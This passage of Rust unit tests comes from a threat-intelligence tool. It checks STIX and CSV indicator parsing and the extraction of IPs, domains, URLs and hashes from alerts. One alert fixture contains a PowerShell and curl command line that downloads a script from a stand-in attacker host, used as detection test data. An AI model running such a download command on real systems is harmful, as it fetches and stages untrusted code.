  {"type": "identity", "id": "identity--a", "name": "ACME CERT"},
  {"type": "indicator", "id": "indicator--0d3f1b9a-6f5e-4d7c-9b8a-1c2d3e4f5a6b", "created_by_ref": "identity--a",
   "name": "C2", "pattern": "[ipv4-addr:value = '203.0.113.7']", "pattern_type": "stix",
   "valid_from": "2026-01-01T00:00:00Z", "confidence": 80},
  {"type": "indicator", "id": "indicator--1d3f1b9a-6f5e-4d7c-9b8a-1c2d3e4f5a6b",
   "pattern": "[process:name = 'evil.exe']", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"}
]}"#;
        let p = parse_stix(ok).unwrap();
        assert_eq!(p.indicators.len(), 1);
        assert_eq!(p.indicators[0].source, "ACME CERT");
        assert_eq!(p.indicators[0].observables, vec![Observable { kind: ObsKind::Ip, value: "203.0.113.7".into() }]);
        assert_eq!(p.skipped.len(), 1);
        assert_eq!(p.skipped[0].line, 6);

        let bad = r#"{"type": "bundle", "id": "bundle--1", "objects": [
  {"type": "indicator", "id": "indicator--0d3f1b9a-6f5e-4d7c-9b8a-1c2d3e4f5a6b", "pattern": "[ipv4-addr:value = '203.0.113.7'", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"},
  {"type": "indicator", "id": "indicator--2d3f1b9a-6f5e-4d7c-9b8a-1c2d3e4f5a6b", "pattern": "[ipv4-addr:value = '203.0.113.8']", "pattern_type": "stix", "valid_from": "last week"},
  {"type": "indicator", "id": "indicator--3d3f1b9a-6f5e-4d7c-9b8a-1c2d3e4f5a6b", "pattern": "[ipv4-addr:value = '999.0.113.8']", "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z"}
]}"#;
        let e = parse_stix(bad).unwrap_err();
        assert_eq!(e.lines.iter().map(|l| l.line).collect::<Vec<_>>(), vec![2, 3, 4]);
        assert!(e.lines[0].reason.contains("invalid STIX pattern"));
        assert!(e.lines[1].reason.contains("RFC 3339"));
    }

    #[test]
    fn csv_import_checks_header_columns_and_values() {
        let p =
            parse_csv("type,value,source,confidence,description\nipv4,203.0.113.7,acme,high,\"C2, seen in March\"\ndomain,Evil.Example.,acme,40,\n").unwrap();
        assert_eq!(p.indicators.len(), 2);
        assert_eq!(p.indicators[0].confidence, 85);
        assert_eq!(p.indicators[0].description, "C2, seen in March");
        assert_eq!(p.indicators[1].observables[0].value, "evil.example");
        assert_eq!(parse_csv("type,value\nipv4,1.2.3.4\n").unwrap_err().lines[0].line, 1);
        let e = parse_csv(
            "type,value,source,confidence,description\nipv4,1.2.3.4,acme\nsha256,abc,acme,high,x\nipv4,1.2.3.4,acme,urgent,x\nfqdn,a.b,acme,high,x\n",
        )
        .unwrap_err();
        assert_eq!(e.lines.iter().map(|l| l.line).collect::<Vec<_>>(), vec![2, 3, 4, 5]);
        assert!(e.lines[0].reason.contains("3 columns"));
    }

    #[test]
    fn candidates_come_from_entities_and_inside_command_lines() {
        let a = Alert::parse(
            0,
            &json!({"id": "a", "source": "sysmon", "time": "2026-03-02T10:15:00Z", "rule": {"name": "x"},
                "entities": {"ips": ["10.0.0.5"]},
                "fields": {"CommandLine": "powershell iwr http://Evil.Example/p.ps1 -o c:\\x.exe; curl 203.0.113.7 d41d8cd98f00b204e9800998ecf8427e"}}),
        )
        .unwrap();
        let c: Vec<(ObsKind, String)> = candidates(&a).into_iter().map(|c| (c.observable.kind, c.observable.value)).collect();
        for want in [
            (ObsKind::Ip, "10.0.0.5"),
            (ObsKind::Ip, "203.0.113.7"),
            (ObsKind::Domain, "evil.example"),
            (ObsKind::Url, "http://evil.example/p.ps1"),
            (ObsKind::Hash, "d41d8cd98f00b204e9800998ecf8427e"),
        ] {
            assert!(c.contains(&(want.0, want.1.to_string())), "{want:?} not in {c:?}");
        }
        assert!(!c.iter().any(|(_, v)| v == "x.exe"));
        assert_eq!(domain_and_parents("a.b.evil.com"), vec!["a.b.evil.com", "b.evil.com", "evil.com"]);
    }
}
